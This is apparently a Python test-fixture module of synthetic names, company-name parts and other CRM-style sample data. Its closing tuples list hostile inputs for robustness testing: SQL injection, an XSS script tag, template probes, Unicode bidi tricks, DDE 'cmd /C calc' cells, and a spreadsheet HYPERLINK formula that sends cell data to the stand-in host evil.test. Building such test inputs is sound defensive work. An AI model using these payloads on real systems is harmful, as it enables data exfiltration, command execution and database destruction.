"""Names of people and companies, and text that a careless program trips over."""

# First names with the short forms that people go by.
NICKNAMES = {
    "Robert": ("Bob", "Rob"),
    "William": ("Bill", "Will"),
    "Elizabeth": ("Liz", "Beth"),
    "Katherine": ("Kate", "Kathy"),
    "Michael": ("Mike",),
    "Jennifer": ("Jen", "Jenny"),
    "Thomas": ("Tom",),
    "Margaret": ("Maggie", "Peggy"),
    "Richard": ("Rick", "Dick"),
    "Christopher": ("Chris",),
    "Alexandra": ("Alex", "Sandra"),
    "Benjamin": ("Ben",),
    "Daniel": ("Dan", "Danny"),
    "Susan": ("Sue",),
    "Anthony": ("Tony",),
    "Patricia": ("Pat", "Trish"),
    "Joseph": ("Joe",),
    "Samantha": ("Sam",),
    "Nicholas": ("Nick",),
    "Deborah": ("Debbie",),
}
OTHER_FIRST_NAMES = (
    "Aaliyah", "Akira", "Amara", "Anjali", "Antoine", "Ayşe", "Björn", "Camila", "Carlos", "Chidi",
    "Chloé", "Dagmar", "Diego", "Dmitri", "Eun-ji", "Fatima", "Femke", "Giulia", "Günther", "Hanna",
    "Hassan", "Hiroshi", "Ines", "Ingrid", "Ivana", "Jürgen", "Kenji", "Kwame", "Lars", "Leila",
    "Linh", "Łukasz", "Mateo", "Mei", "Miriam", "Mohammed", "Naoko", "Nuria", "Olga", "Omar",
    "Oskar", "Paolo", "Priya", "Rajesh", "Renée", "Sanjay", "Sofía", "Sven", "Tariq", "Tomáš",
    "Uma", "Vikram", "Wei", "Xóchitl", "Yara", "Yusuf", "Zanele", "Zoë",
)  # fmt: skip
FIRST_NAMES = (*NICKNAMES, *OTHER_FIRST_NAMES)
LAST_NAMES = (
    "Abernathy", "Adeyemi", "Alvarez", "Andersen", "Ansah", "Baptiste", "Bergström", "Bianchi",
    "Blackwood", "Bouchard", "Brandt", "Caldwell", "Castillo", "Chandra", "Chen", "Cohen",
    "D'Angelo", "Delgado", "Desai", "Dubois", "Dvořák", "Eriksen", "Fairbanks", "Fernández",
    "Fischer", "Flores", "Fofanah", "Gallagher", "García", "Gupta", "Haddad", "Hakimi", "Hansen",
    "Hoffmann", "Horvat", "Huang", "Ibrahim", "Ivanov", "Iyer", "Jansen", "Jensen", "Johansson",
    "Kapoor", "Kaya", "Kim", "Kovács", "Kowalski", "Krüger", "Lambert", "Lefebvre", "Lindqvist",
    "López", "Mahmoud", "Marchetti", "Mbeki", "McAllister", "Mehta", "Mendes", "Meyer", "Moreau",
    "Müller", "Nakamura", "Nguyen", "Novak", "O'Brien", "Okafor", "Okonkwo", "Olsen", "Ortega",
    "Papadopoulos", "Park", "Patel", "Pereira", "Petrov", "Popescu", "Quinn", "Ramírez", "Rao",
    "Reinhardt", "Reyes", "Romano", "Rossi", "Sakamoto", "Salazar", "Sato", "Schneider", "Schäfer",
    "Silva", "Singh", "Sokolova", "Sørensen", "Stewart", "Suzuki", "Takahashi", "Tanaka",
    "Thompson", "Torres", "Tremblay", "Vanderberg", "Vargas", "Vasquez", "Villanueva", "Wagner",
    "Walker", "Weber", "Whitfield", "Wójcik", "Yamamoto", "Yıldız", "Young", "Zhang", "Zimmermann",
)  # fmt: skip
COMPANY_FIRST = (
    "Acacia", "Alder", "Anchor", "Apex", "Arbor", "Argon", "Aspen", "Atlas", "Aurora", "Baltic",
    "Beacon", "Birch", "Blue Ridge", "Bolt", "Bridge", "Cardinal", "Cedar", "Cobalt", "Compass",
    "Copper", "Coral", "Crescent", "Delta", "Drift", "Eagle", "Echo", "Ember", "Falcon", "Fjord",
    "Flint", "Garnet", "Granite", "Harbor", "Hawthorn", "Helix", "Horizon", "Indigo", "Iron",
    "Juniper", "Keystone", "Lantern", "Larch", "Lumen", "Maple", "Meridian", "Monsoon", "Nimbus",
    "Nordic", "Oak", "Onyx", "Orchid", "Osprey", "Pacific", "Pioneer", "Prairie", "Quarry",
    "Quartz", "Raven", "Redwood", "Ridge", "Saffron", "Sequoia", "Sierra", "Silver", "Slate",
    "Summit", "Tamarind", "Terra", "Timber", "Topaz", "Tundra", "Vector", "Verdant", "Vista",
    "Walnut", "Willow", "Zenith", "Zephyr",
)  # fmt: skip
COMPANY_SECOND = (
    "Analytics", "Bearings", "Biotech", "Capital", "Ceramics", "Chemicals", "Cloud", "Components",
    "Data", "Diagnostics", "Dynamics", "Energy", "Foods", "Freight", "Genetics", "Health",
    "Hydraulics", "Insurance", "Labs", "Logistics", "Materials", "Media", "Mobility", "Networks",
    "Optics", "Packaging", "Payments", "Pharma", "Plastics", "Press", "Robotics", "Security",
    "Software", "Solar", "Steel", "Systems", "Textiles", "Travel", "Utilities", "Ventures",
)  # fmt: skip
LEGAL_FORMS = ("Inc.", "LLC", "Ltd", "GmbH", "Corp.", "Pty Ltd", "K.K.", "S.A.", "Pvt. Ltd.", "")
JOB_TITLES = (
    "Head of Operations", "VP Finance", "IT Manager", "Buyer", "Chief of Staff", "CTO",
    "Procurement Lead", "Revenue Operations Manager", "Plant Manager", "Director, Supply Chain",
)  # fmt: skip
FREE_MAIL = ("gmail.com", "outlook.com", "yahoo.com", "gmx.de", "icloud.com", "proton.me")
ROLE_MAILBOXES = ("info", "sales", "office", "contact", "billing")
UNREACHED = "No answer"
REJECT_REASONS = ("No budget", "Wrong fit", "Student or job seeker", "Competitor", UNREACHED)

# What people type into the first-name field of a form; both CRMs hold it alike.
HOSTILE_NAMES = (
    "=1+1",
    "<b>Ann</b>",
    "Zoe 🚀",
    "O'; DROP TABLE leads;--",
    "\u202enerakiM",
    'Jo "JJ" Ann',
    "Tan, Wei",
    "Null",
)

# Cells that a spreadsheet would run, text that turns round or has no fixed width, quotes and breaks
# that tear a CSV apart, and what a naive template would execute.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+1+1|cmd' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "<script>alert('owned')</script>",
    "Robert'); DROP TABLE contacts;--",
    '"quoted", with\ncomma and\r\nbreaks\tand tab',
    "שלום עולם — مرحبا بالعالم",
    "👩‍👩‍👧‍👦🏳️‍🌈 e\u0301a\u0308n\u0303 \u202egnirts desrever\u202c",
    "ZERO\u200bWIDTH\u2060JOINER",
    "{{ 7 * 7 }} ${7*7} %s %n",
    "null",
    "#N/A",
)
